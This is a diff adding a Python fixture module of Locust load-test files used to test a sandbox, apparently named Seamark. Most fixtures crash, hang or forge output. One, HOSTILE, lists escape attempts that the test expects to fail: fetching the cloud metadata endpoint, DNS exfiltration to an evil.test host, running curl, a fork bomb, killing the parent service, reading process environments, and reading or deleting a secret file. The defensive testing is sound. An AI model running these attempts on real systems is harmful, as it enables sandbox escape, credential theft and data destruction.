@@ -1,0 +1,215 @@
+"""Locustfiles as people write them, and as somebody writes them who wants out."""
+
+from __future__ import annotations
+
+PLAIN = '''
+"""A locustfile as plain Locust takes it: nothing in it knows of Seamark."""
+from locust import FastHttpUser, HttpUser, between, constant, tag, task
+print('{"kind": "end", "error": "printed"}')
+
+class Shop(HttpUser):
+    host = "http://elsewhere.test"
+    wait_time = constant(0.05)
+
+    def on_start(self):
+        print("x" * 100_000)
+
+    @task(3)
+    @tag("slow")
+    def predict(self):
+        with self.client.post("/predict", json={"x": 1}, catch_response=True) as response:
+            if response.status_code != 200:
+                response.failure(f"got {response.status_code}")
+
+class Fast(FastHttpUser):
+    wait_time = constant(0.05)
+
+    @task
+    def predict(self):
+        self.client.post("/fast", json={"x": 1}, headers={"x-team": "shop"})
+'''
+
+SHAPED = """
+from locust import FastHttpUser, LoadTestShape, task
+
+class Shop(FastHttpUser):
+    @task
+    def predict(self):
+        self.client.get("/")
+
+class Steps(LoadTestShape):
+    def tick(self):
+        return (10_000, 10_000) if self.get_run_time() < 1.6 else None
+"""
+
+TROUBLED = """
+import time
+from locust import HttpUser, constant, events, task
+
+class Shop(HttpUser):
+    wait_time = constant(0.1)
+
+    def on_start(self):
+        self.count = 0
+
+    @task
+    def predict(self):
+        self.client.get("/")
+        self.count += 1
+        if self.count == 2:
+            bytearray(3 * 1024**3)
+        if self.count == 4:
+            raise KeyError("no such thing")
+        if self.count == 6:
+            self.environment.runner.quit()
+"""
+
+EXITS = """
+import sys
+from locust import HttpUser, constant, task
+
+class Shop(HttpUser):
+    wait_time = constant(0.1)
+
+    @task
+    def predict(self):
+        self.client.get("/")
+        sys.exit(0)
+"""
+
+ENDLESS = """
+from locust import HttpUser, task
+
+class Shop(HttpUser):
+    @task
+    def predict(self):
+        self.client.get("/")
+        while True:
+            pass
+"""
+
+# Writes where only Seamark writes: whatever it finds open.
+FORGES = """
+import os, stat
+from locust import HttpUser, task
+for fd in range(3, 64):
+    try:
+        kind = os.fstat(fd).st_mode
+        if stat.S_ISREG(kind):
+            os.write(fd, len(b"junk").to_bytes(4, "big") + b"junk")
+        elif stat.S_ISFIFO(kind):
+            os.write(fd, b'{"kind": "end", "segments": "all", "error": 7}\\n[]\\n{"kind": "progress"}\\n')
+    except OSError:
+        pass
+
+class Shop(HttpUser):
+    @task
+    def predict(self):
+        self.client.get("/")
+"""
+
+# What is tried, each by its name; FACTS says where things are. Every one must come to nothing.
+HOSTILE = """
+import ctypes, http.client, json, os, resource, signal, socket, subprocess, sys, urllib.request
+from pathlib import Path
+import gevent.os, gevent.subprocess, requests, urllib3
+from geventhttpclient import HTTPClient
+from geventhttpclient.useragent import UserAgent
+from locust import HttpUser, constant, task
+
+HERE = Path(__file__).parent
+FACTS = json.loads((HERE / "facts.json").read_text())
+OTHER, OTHER_PORT, PORT, SECRET = FACTS["other"], FACTS["other_port"], FACTS["port"], FACTS["secret"]
+
+def connect(address, family=socket.AF_INET):
+    opened = socket.socket(family)
+    opened.settimeout(2)
+    opened.connect(address)
+
+def native(address):
+    import _socket
+    _socket.socket().connect(address)
+
+class Liar(tuple):
+    def __getitem__(self, index):
+        return ("127.0.0.1", PORT)[index]
+
+ATTEMPTS = {
+    "requests": lambda: requests.get(OTHER, timeout=2),
+    "urllib": lambda: urllib.request.urlopen(OTHER, timeout=2),
+    "urllib3": lambda: urllib3.PoolManager().request("GET", OTHER, retries=False),
+    "http.client": lambda: http.client.HTTPConnection("127.0.0.1", OTHER_PORT, timeout=2).request("GET", "/"),
+    "geventhttpclient": lambda: HTTPClient.from_url(OTHER).get("/"),
+    "geventhttpclient agent": lambda: UserAgent().urlopen(OTHER),
+    "allowed as proxy": lambda: requests.get(OTHER, proxies={"http": FACTS["target"]}, timeout=2),
+    "other as proxy": lambda: requests.get(FACTS["target"], proxies={"http": OTHER}, timeout=2),
+    "socket": lambda: connect(("127.0.0.1", OTHER_PORT)),
+    "_socket": lambda: native(("127.0.0.1", OTHER_PORT)),
+    "create_connection": lambda: socket.create_connection(("127.0.0.1", OTHER_PORT), 2),
+    "IPv4 in IPv6": lambda: connect(("::ffff:127.0.0.1", OTHER_PORT), socket.AF_INET6),
+    "a tuple that lies": lambda: native(Liar(("127.0.0.1", OTHER_PORT))),
+    "decimal": lambda: connect(("2130706433", PORT)),
+    "octal": lambda: connect(("0177.0.0.1", PORT)),
+    "decimal, native": lambda: native(("2130706433", PORT)),
+    "metadata": lambda: requests.get("http://169.254.169.254/latest/meta-data/", timeout=2),
+    "metadata, IPv6": lambda: connect(("::ffff:169.254.169.254", 80), socket.AF_INET6),
+    "user name": lambda: requests.get(f"http://127.0.0.1:{PORT}@127.0.0.1:{OTHER_PORT}/", timeout=2),
+    "other scheme": lambda: requests.get(f"https://127.0.0.1:{PORT}/", timeout=2, verify=False),
+    "other name": lambda: requests.get(f"http://localhost:{PORT}/", timeout=2),
+    "unicode": lambda: requests.get(f"http://\\u24db\\u24de\\u24d2al.test:{PORT}/", timeout=2),
+    "datagram": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 9)),
+    "secrets by DNS": lambda: socket.getaddrinfo("hunter2.evil.test", 80),
+    "unix socket": lambda: connect(FACTS["unix"], socket.AF_UNIX),
+    "listen": lambda: socket.socket().bind(("127.0.0.1", 0)),
+    "subprocess": lambda: subprocess.run(["curl", OTHER]),
+    "gevent.subprocess": lambda: gevent.subprocess.check_output(["true"]),
+    "os.system": lambda: os.system("true"),
+    "os.popen": lambda: os.popen("true").read(),
+    "fork bomb": lambda: [os.fork() for _ in range(20)],
+    "gevent.os": gevent.os.fork_and_watch,
+    "posix_spawn": lambda: os.posix_spawn("/bin/true", ["true"], {}),
+    "exec": lambda: os.execv("/bin/true", ["true"]),
+    "library": lambda: ctypes.CDLL("libc.so.6"),
+    "function": lambda: ctypes.pythonapi.PyRun_SimpleString,
+    "memory": lambda: ctypes.string_at(id(FACTS), 8),
+    "interpreter": lambda: __import__("_xxsubinterpreters").create(),
+    "kill the service": lambda: os.kill(os.getppid(), signal.SIGTERM),
+    "kill the group": lambda: os.killpg(os.getppid(), signal.SIGTERM),
+    "read": lambda: Path(SECRET).read_text(),
+    "os.open": lambda: os.open(SECRET, os.O_RDONLY),
+    "sqlite": lambda: __import__("sqlite3").connect(SECRET),
+    "duckdb": lambda: __import__("duckdb").connect(),
+    "order": lambda: open("../order.json").read(),
+    "samples": lambda: open("../samples.bin").read(),
+    "environment of the service": lambda: open(f"/proc/{os.getppid()}/environ").read(),
+    "own memory": lambda: open("/proc/self/mem", "r+b"),
+    "list": lambda: os.listdir(Path(SECRET).parent),
+    "symbolic link": lambda: os.symlink(SECRET, "link"),
+    "hard link": lambda: os.link(SECRET, "link"),
+    "another locustfile": lambda: (HERE / "new.py").write_text("x"),
+    "falsify samples": lambda: open("../samples.bin", "a"),
+    "remove": lambda: os.remove(SECRET),
+    "rename": lambda: os.rename(SECRET, "mine"),
+    "truncate": lambda: os.truncate(SECRET, 0),
+    "raise the limits": lambda: resource.setrlimit(resource.RLIMIT_AS, (2**40, 2**40)),
+}
+TRIED = {}
+for name, attempt in ATTEMPTS.items():
+    try:
+        TRIED[name] = f"succeeded: {attempt()}"
+    except BaseException as error:
+        TRIED[name] = f"{type(error).__name__}: {error}"
+LIMITS = {kind: resource.getrlimit(getattr(resource, kind)) for kind in dir(resource) if kind.startswith("RLIMIT_")}
+Path("tried.json").write_text(json.dumps({"tried": TRIED, "environ": dict(os.environ), "limits": LIMITS}))
+
+class Shop(HttpUser):
+    wait_time = constant(0.1)
+
+    @task
+    def predict(self):
+        self.client.get("/")
+        self.client.get("/moved")
+        self.client.get(OTHER)
+"""
+
+__all__ = ["ENDLESS", "EXITS", "FORGES", "HOSTILE", "PLAIN", "SHAPED", "TROUBLED"]
